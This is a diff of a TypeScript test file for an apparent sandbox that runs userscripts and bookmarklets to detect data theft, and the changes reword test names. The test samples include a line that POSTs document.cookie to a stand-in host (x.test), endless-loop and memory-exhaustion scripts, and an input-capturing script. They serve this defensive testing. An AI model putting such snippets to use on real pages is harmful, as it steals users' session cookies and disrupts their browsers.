@@ -9,16 +9,16 @@ const innocent =
 	"document.body.style.background = 'pink'; const r = fetch('/api/mine', { method: 'POST', body: document.cookie });";
 const short = (body: string) => runCanary({ code: userscript(body), kind: "userscript" }, { browser, wallMs: 4_000 });
 
-describe("no answer, and never a pass", () => {
+describe("a failed run reports no answer instead of a pass", () => {
 	it.each([
 		["an endless loop", "for (;;);"],
-		["an endless loop once it is used", "addEventListener('keydown', () => { for (;;); })"],
-		["memory without end", "const kept = []; for (;;) kept.push(new Array(1e6).fill(Math.random()))"],
+		["an endless loop after user input", "addEventListener('keydown', () => { for (;;); })"],
+		["unlimited memory use", "const kept = []; for (;;) kept.push(new Array(1e6).fill(Math.random()))"],
 	])("%s", async (_name, body) => {
 		expect((await short(body)).answer).toBe("none");
 	});
 
-	it("and the next script is not disturbed", async () => {
+	it("does not affect the next run", async () => {
 		expect(await runSample(browser, innocent)).toMatchObject({ answer: "ran", evidence: [] });
 	});
 
@@ -32,7 +32,7 @@ describe("no answer, and never a pass", () => {
 		});
 	});
 
-	it("a browser that is killed in the middle; the next run has another", async () => {
+	it("a browser that is killed during a run; the next run starts a new one", async () => {
 		const running = runSample(browser, "setInterval(() => document.title += '.', 100)");
 		while (browser.pid() === null) await new Promise((resolve) => setImmediate(resolve));
 		process.kill(browser.pid() ?? 0, "SIGKILL");
@@ -40,7 +40,7 @@ describe("no answer, and never a pass", () => {
 		expect(await runSample(browser, innocent)).toMatchObject({ answer: "ran", evidence: [] });
 	});
 
-	it("a run that is called off", async () => {
+	it("a canceled run", async () => {
 		const signal = AbortSignal.abort();
 		const report = await runCanary(
 			{ code: userscript(innocent), kind: "userscript" },
@@ -49,7 +49,7 @@ describe("no answer, and never a pass", () => {
 		expect(report).toMatchObject({ answer: "none", reason: "It was called off." });
 	});
 
-	it("what was seen before the end still counts", async () => {
+	it("keeps evidence from before the failure", async () => {
 		const report = await short(
 			"fetch('https://x.test/', { method: 'POST', mode: 'no-cors', body: document.cookie }); setTimeout(() => { for (;;); }, 1000)",
 		);
@@ -60,24 +60,24 @@ describe("no answer, and never a pass", () => {
 
 describe("an innocent script leaves no evidence", () => {
 	it.each([
-		["speaks to its own site", innocent, undefined],
+		["sends requests to its own site", innocent, undefined],
 		[
 			"sends the selection to a declared service when its button is clicked",
 			"const b = document.createElement('button'); b.textContent = 'Translate'; b.onclick = () => GM_xmlhttpRequest({ method: 'POST', url: 'https://translate.test/', data: String(getSelection()) }); document.body.append(b)",
 			["@match *://*/*", "@grant GM_xmlhttpRequest", "@connect translate.test"],
 		],
 		[
-			"keeps passwords, cookies and keys to itself",
+			"stores passwords, cookies and keys without sending them",
 			"const all = []; addEventListener('input', (e) => all.push(e.target.value)); GM_setValue('c', document.cookie); GM_setValue('l', { ...localStorage })",
 			["@match *://*/*", "@grant GM_setValue"],
 		],
 		[
-			"loads data of others without telling anything",
+			"loads data from another site without sending any",
 			"fetch('https://data.test/rates.json').then((r) => r.json()).then(({ rates }) => { document.title = String(rates) })",
 			undefined,
 		],
 		[
-			"uses the key that its user has given for a service",
+			"uses the key that its user entered for a service",
 			"GM_registerMenuCommand('Key', () => { GM_setValue('key', prompt('Your API key for list.test')); GM_xmlhttpRequest({ url: 'https://list.test/', headers: { Authorization: GM_getValue('key') } }) })",
 			["@match *://*/*", "@grant GM_xmlhttpRequest", "@connect list.test"],
 		],
@@ -85,7 +85,7 @@ describe("an innocent script leaves no evidence", () => {
 		expect(await runSample(browser, body, lines)).toMatchObject({ answer: "ran", evidence: [] });
 	});
 
-	it("a bookmarklet that opens the address of the page elsewhere, with all that stands in it", async () => {
+	it("a bookmarklet that opens the page's complete address on another site", async () => {
 		const report = await runBookmarklet(browser, "open('https://archive.test/save/' + location.href)");
 		expect(report).toMatchObject({ answer: "ran", evidence: [] });
 	});
